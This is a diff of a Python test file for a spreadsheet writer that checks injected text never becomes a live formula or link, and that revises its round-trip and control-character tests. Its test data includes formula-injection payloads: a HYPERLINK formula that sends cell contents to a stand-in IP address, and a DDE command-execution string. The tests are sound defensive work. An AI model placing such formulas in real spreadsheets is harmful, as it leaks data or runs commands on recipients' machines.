@@ -33,6 +33,7 @@ from sheettools.outgoing.workbook.write import (
     SheetWriter,
     clean_text,
 )
+from sheettools.words.text import is_padded, seen
 
 INJECTIONS = (
     "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://192.0.2.1/?"&A1,"Bấm")', "=cmd|' /C calc'!A0",
@@ -98,9 +99,14 @@ def test_no_injection_becomes_a_formula_or_a_link(tmp_path: Path) -> None:
     assert not any("hyperlink" in text for name, text in parts.items() if name.endswith(".rels"))
 
 
+def as_read(text: str) -> str:
+    """Return a text as it is read: without what nobody sees, where there is any."""
+    return seen(text) if is_padded(text) else text
+
+
 def test_every_reader_gets_the_same_text_back(tmp_path: Path) -> None:
     path = write(tmp_path / "a.xlsx", *INJECTIONS)
-    assert read_back(path) == list(INJECTIONS)
+    assert read_back(path) == [as_read(text) for text in INJECTIONS]
     strangers = [row[0] for row in openpyxl.load_workbook(path)["Thử"].iter_rows(values_only=True)]
     # openpyxl leaves the format's own escape of control characters to whoever asks.
     assert [unescape(text) for text in strangers] == [unescape(text) for text in INJECTIONS]
@@ -114,7 +120,7 @@ def test_every_reader_gets_the_same_text_back(tmp_path: Path) -> None:
     )
 )
 def test_any_text_comes_back(tmp_path: Path, texts: list[str]) -> None:
-    assert read_back(write(tmp_path / "a.xlsx", *texts)) == texts
+    assert read_back(write(tmp_path / "a.xlsx", *texts)) == [as_read(text) for text in texts]
 
 
 def test_text_that_begins_with_a_sign_stays_text_when_somebody_edits_it(tmp_path: Path) -> None:
@@ -143,10 +149,11 @@ def test_characters_that_no_workbook_can_hold_are_replaced_not_fatal(tmp_path: P
     assert len(back) == 6
 
 
-def test_control_characters_come_back(tmp_path: Path) -> None:
-    assert read_back(write(tmp_path / "a.xlsx", "NUL \0 BEL \a ESC \x1b.")) == [
-        "NUL \0 BEL \a ESC \x1b."
-    ]
+def test_control_characters_are_written_as_the_format_asks(tmp_path: Path) -> None:
+    path = write(tmp_path / "a.xlsx", "NUL \0 BEL \a ESC \x1b.")
+    written = openpyxl.load_workbook(path)["Thử"]["A1"].value
+    assert written == "NUL _x0000_ BEL _x0007_ ESC _x001B_."
+    assert read_back(path) == ["NUL  BEL  ESC ."], "nobody sees them"
 
 
 def test_the_longest_text_fits(tmp_path: Path) -> None:
